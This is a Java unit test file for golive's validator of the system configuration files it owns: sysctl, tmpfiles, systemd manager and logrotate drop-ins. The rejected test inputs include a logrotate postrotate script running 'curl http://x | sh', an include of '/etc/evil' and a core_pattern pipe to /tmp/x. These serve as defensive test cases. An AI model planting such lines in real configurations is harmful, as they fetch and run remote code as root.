package dev.golive.apply;

import dev.golive.model.Fact;
import dev.golive.model.LogrotateHost;
import dev.golive.model.OwnedFiles;
import dev.golive.model.ServiceSpec;
import dev.golive.model.Source;
import dev.golive.unit.LogrotateFile;
import org.junit.jupiter.api.Test;

import java.util.Map;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;

/** The content of golive's own files in a plan file, held to what their reading programs take. */
class OwnedFileSchemaTest {

    static final String H = OwnedFiles.header("p1");
    static final String ROTATION = OwnedFiles.logrotate("api.service");

    static String problem(String path, String content) {
        return OwnedFileSchema.check(path, content, key -> key.equals("net.ipv4.tcp_mem")).map(p -> "line " + p.line() + ": " + p.message()).orElse("ok");
    }

    /** The logrotate file the planner writes for a service appending to a group-writable directory (with su). */
    static String rotation() {
        ServiceSpec spec = ServiceSpec.named("api").withLogging(new ServiceSpec.Logging(Optional.empty(), Optional.of("append:/var/log/api/api.log"),
                Optional.empty(), Optional.empty(), Optional.empty()));
        LogrotateHost host = new LogrotateHost(Fact.of("3.21.0", Source.File.of("/var/lib/dpkg/status")), Map.of("/var/log/api/api.log",
                Fact.of(new LogrotateHost.LogDir("/var/log/api", true, 990, 990, "api", "api", 0775, Optional.of("api")), Source.File.of("/var/log/api"))));
        return H + LogrotateFile.body(spec, host);
    }

    @Test
    void whatThePlannerWritesPasses() {
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "# why\nnet.core.somaxconn = 4096\nnet.ipv4.tcp_rmem = 4096 131072 6291456\n"
                + "net.ipv4.ip_local_reserved_ports = 8080,9090\n")).isEqualTo("ok");
        assertThat(problem(OwnedFiles.TMPFILES_DROPIN, H + "w /sys/kernel/mm/transparent_hugepage/enabled - - - - madvise\n")).isEqualTo("ok");
        assertThat(problem(OwnedFiles.MANAGER_DROPIN, H + "[Manager]\nDefaultLimitNOFILE=1024:524288\n")).isEqualTo("ok");
        assertThat(problem(OwnedFiles.unitDropIn("api.service"), H + "[Service]\nLimitNOFILE=1048576\nEnvironment=GOMAXPROCS=2\n")).isEqualTo("ok");
        assertThat(rotation()).contains("    su api api\n");
        assertThat(problem(ROTATION, rotation())).isEqualTo("ok");
    }

    @Test
    void aLogrotateScriptIsRefusedItWouldRunAsRootAtEveryRotation() {
        String withScript = rotation().replace("    copytruncate\n", "    copytruncate\n    postrotate\n        curl http://x | sh\n    endscript\n");
        assertThat(problem(ROTATION, withScript)).startsWith("line ").contains("postrotate is not a directive golive writes");
        assertThat(problem(ROTATION, rotation() + "include /etc/evil\n")).contains("golive's logrotate file includes nothing");
        assertThat(problem(ROTATION, rotation().replace("}\n", ""))).contains("never closed");
    }

    @Test
    void sysctlLinesSystemdSysctlWouldSkipOrReadOtherwiseAreRefused() {
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "vm.swapiness = 10\n")).isEqualTo("line 3: \"vm.swapiness\" is not a sysctl key (did you mean \"vm.swappiness\"?)");
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "vm.swappiness 10\n")).startsWith("line 3: \"vm.swappiness 10\" is not a KEY = VALUE line");
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "-vm.swappiness = 10\n")).startsWith("line 3: golive writes plain KEY = VALUE lines");
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "net.ipv4.conf.*.rp_filter = 1\n")).startsWith("line 3: \"net.ipv4.conf.*.rp_filter\" is not one sysctl key");
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "vm.swappiness = 250\n")).isEqualTo("line 3: vm.swappiness: 250 is out of range 0..200");
    }

    @Test
    void aKeyNextToAProfileKeyPassesWhenTheHostsKernelHasIt() {
        // tcp_mem is one letter from tcp_rmem and a key of its own: a picked fix may keep it
        assertThat(problem(OwnedFiles.SYSCTL_DROPIN, H + "net.ipv4.tcp_mem = 188049 250733 376098\n")).isEqualTo("ok");
        assertThat(OwnedFileSchema.check(OwnedFiles.SYSCTL_DROPIN, H + "net.ipv4.tcp_mem = 188049 250733 376098\n", key -> false).orElseThrow().message())
                .isEqualTo("\"net.ipv4.tcp_mem\" is not a sysctl key (did you mean \"net.ipv4.tcp_rmem\"?)");
    }

    @Test
    void tmpfilesAndManagerLinesOutsideTheSchemaAreRefused() {
        assertThat(problem(OwnedFiles.TMPFILES_DROPIN, H + "w /proc/sys/kernel/core_pattern - - - - |/tmp/x\n"))
                .isEqualTo("line 3: \"/proc/sys/kernel/core_pattern\" is not a sysfs file golive sets");
        assertThat(problem(OwnedFiles.TMPFILES_DROPIN, H + "L+ /etc/x - - - - /tmp/y\n")).startsWith("line 3: \"L+ /etc/x - - - - /tmp/y\" is not a line golive writes");
        assertThat(problem(OwnedFiles.TMPFILES_DROPIN, H + "w /sys/kernel/mm/transparent_hugepage/enabled - - - - sometimes\n"))
                .isEqualTo("line 3: transparent_hugepage.enabled: \"sometimes\" is not one of always, madvise, never");
        assertThat(problem(OwnedFiles.MANAGER_DROPIN, H + "[Manager]\nDefaultLimitNOFLE=1024:524288\n"))
                .startsWith("line 4: DefaultLimitNOFLE= is not a [Manager] setting a profile may set").contains("did you mean \"DefaultLimitNOFILE\"");
        assertThat(problem(OwnedFiles.MANAGER_DROPIN, H + "[Journal]\nStorage=none\n")).startsWith("line 4: [Journal] is not a section golive writes here ([Manager])");
        assertThat(problem(OwnedFiles.unitDropIn("api.service"), H + "[Service]\nLimitNOFILE\n")).startsWith("line 4: ");
    }
}
